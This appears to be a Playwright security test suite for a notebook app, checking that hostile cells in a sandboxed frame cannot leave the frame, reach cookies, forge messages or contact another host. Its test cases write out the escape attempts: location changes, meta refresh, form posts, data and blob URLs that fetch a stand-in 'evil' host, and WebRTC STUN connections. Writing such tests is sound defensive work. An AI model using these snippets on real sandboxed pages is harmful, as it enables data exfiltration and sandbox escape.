import { readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { createNotebook, openNotebook, read } from './open-notebook';
import { type OtherHost, startOtherHost } from './other-host';

/**
 * A hostile notebook against the real browser and the real server. The frame's headers must hold by themselves: Chromium runs
 * with its ordinary settings here.
 */
let other: OtherHost;

test.beforeEach(async () => {
  other = await startOtherHost();
});
test.afterEach(() => other.close());

const fixture = (name: string) => readFileSync(new URL(`../fixtures/${name}`, import.meta.url), 'utf8');

/** A cell that runs `body` with both addresses known. */
const hostile = (page: Page, body: string) => {
  const origin = new URL(page.url()).origin;
  const values = [body, origin, other.url].map((value) => JSON.stringify(value));
  return `await new (async () => {}).constructor('origin', 'evil', ${values[0]})(${values[1]}, ${values[2]})`;
};

/** Code that leaves a trace in the frame: an attempt that nothing shows is seen to have been made. */
const mark = (id: string) =>
  `document.body.append(Object.assign(document.createElement('i'), { id: '${id}' }))`;

async function attack(page: Page, body: string) {
  await page.goto('/notebooks');
  const id = await createNotebook(page.request, 'Hostile', [hostile(page, body)]);
  return { id, frame: await openNotebook(page, id) };
}

/** Longer than any attempt above takes to reach the other host when nothing stops it. */
const nothingCame = async (page: Page) => {
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 1000)));
  expect.soft(other.visits).toEqual([]);
};

test('nothing of the viewer, the page, the server or another host is within reach of a cell', async ({
  page,
  context,
  baseURL,
}) => {
  await context.addCookies([{ name: 'session', value: 'secret', url: baseURL ?? '', sameSite: 'Lax' }]);
  const downloads: string[] = [];
  const popups: string[] = [];
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('download', (download) => downloads.push(download.suggestedFilename()));
  context.on('page', (popup) => popups.push(popup.url()));
  const { frame } = await attack(page, fixture('hostile-cell.js'));

  const before = await page.evaluate(() => document.cookie);
  const text = await frame.locator('#verdicts').textContent({ timeout: 110_000 });
  const verdicts: Record<string, string> = JSON.parse(text ?? '{}');
  expect(Object.keys(verdicts).length).toBeGreaterThan(60);
  expect.soft(Object.entries(verdicts).filter(([, verdict]) => verdict.startsWith('GOT'))).toEqual([]);
  await nothingCame(page);
  expect.soft(downloads).toEqual([]);
  expect.soft(popups).toEqual([]);
  expect.soft(dialogs).toEqual([]);
  expect.soft(await page.evaluate(() => document.cookie)).toBe(before);
  const titles = (await read(page.request, 'notebooks.list', {})) as unknown as { title: string }[];
  expect(titles.map(({ title }) => title)).not.toContain('forged');
});

const departures = {
  'location.href': 'location.href = `${evil}/self`',
  'location.replace': 'location.replace(`${evil}/self`)',
  'a link':
    "const a = document.createElement('a'); a.href = `${evil}/link`; document.body.append(a); a.click()",
  'meta refresh':
    "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0;url=${evil}/refresh?secret`; document.head.append(m)",
  'a form into itself':
    "const f = document.createElement('form'); f.action = `${evil}/form`; f.target = '_self'; document.body.append(f); f.submit()",
  'its own document again': 'location.href = `${origin}/frame/notebook.html`',
  'another page of Cellar': 'location.href = `${origin}/notebooks`',
  'a data address': "location.href = 'data:text/html,<script>fetch(\"' + evil + '\")<' + '/script>'",
  'a blob of its own':
    "location.href = URL.createObjectURL(new Blob(['<script>fetch(\"' + evil + '\")<' + '/script>'], {type: 'text/html'}))",
};

// Each in a page of its own, all at once: they mostly wait for nothing to come.
test('the frame cannot leave', async ({ context }) => {
  const failed = await Promise.all(
    Object.entries(departures).map(async ([way, code]) => {
      const page = await context.newPage();
      const { frame } = await attack(
        page,
        `${mark('attempted')}; await new Promise((later) => setTimeout(later, 500)); ${code}; await new Promise((later) => setTimeout(later, 2000))`,
      );
      if (way === 'a form into itself') {
        await expect(frame.locator('#attempted')).toBeAttached({ timeout: 60_000 });
        await page.waitForTimeout(3000); // refused without a trace
      } else await expect(page.getByText('tried to leave its frame'), way).toBeVisible({ timeout: 60_000 });
      await nothingCame(page);
      return /^\/notebooks\/\w+$/.test(new URL(page.url()).pathname) ? [] : [way];
    }),
  );
  expect(failed.flat()).toEqual([]);
});

const connect = `
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + host }] });
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());`;
const peers = {
  'from the frame': connect,
  // Which is of another origin: its script makes the connection itself, and tells.
  'from a frame inside': `
    const inner = document.createElement('iframe');
    const told = new Promise((resolve) => addEventListener('message', ({ data }) => data === 'connecting' && resolve()));
    inner.srcdoc = '<script type="module">const host = "' + host + '";' + ${JSON.stringify(connect)} + 'parent.postMessage("connecting", "*")<' + '/script>';
    document.body.append(inner);
    await told;`,
};
for (const [way, code] of Object.entries(peers))
  test(`WebRTC sends nothing ${way}`, async ({ page }) => {
    const { frame } = await attack(page, `const { host } = new URL(evil); ${code} ${mark('attempted')};`);
    await expect(frame.locator('#attempted')).toBeAttached({ timeout: 60_000 });
    await page.waitForTimeout(4000);
    expect(other.visits).toEqual([]);
  });

test('forged messages are refused, each with its reason', async ({ page }) => {
  const { frame } = await attack(page, fixture('forging-cell.js'));
  const text = await frame.locator('#forged').textContent({ timeout: 60_000 });
  const verdicts: Record<string, string> = JSON.parse(text ?? '{}');
  expect(Object.keys(verdicts)).toHaveLength(10);
  expect(Object.entries(verdicts).filter(([, verdict]) => !verdict.startsWith('refused'))).toEqual([]);
  expect(verdicts.unknown).toContain('unknown_request');
  expect(verdicts.hugeText).toContain('bad_request');
  await expect(page.getByRole('button', { name: 'Run all' })).toBeEnabled();
});

test('a flood of messages ends the frame, and the page stays usable', async ({ page }) => {
  await attack(
    page,
    `const port = await new Promise((resolve) => {
       const post = MessagePort.prototype.postMessage;
       MessagePort.prototype.postMessage = function (message, ...rest) {
         if (message?.type === 'notice') resolve(this);
         return post.call(this, message, ...rest);
       };
     });
     for (let i = 0; i < 10_000; i += 1) port.postMessage({ type: 'request', id: i, name: 'dataset.list', body: {} });`,
  );
  await expect(page.getByText('thousands of messages')).toBeVisible({ timeout: 30_000 });
  await expect(page.locator('iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Open without running' }).click();
  await expect(page.getByText('Nothing runs until you ask')).toBeVisible();
});

test('another site cannot put the frame into a page of its own', async ({ page, baseURL }) => {
  await page.goto(other.url);
  const refused = page.waitForEvent('console', (message) => message.text().includes('frame-ancestors'));
  await page.setContent(`<iframe src="${baseURL}/frame/notebook.html"></iframe>`);
  await refused;
  expect(page.frames().map((frame) => frame.url())).not.toContain(`${baseURL}/frame/notebook.html`);
});

test('a frame opened by itself is as poor as inside the page', async ({ page }) => {
  await page.goto('/frame/notebook.html');
  expect(await page.evaluate(() => window.origin)).toBe('null');
});
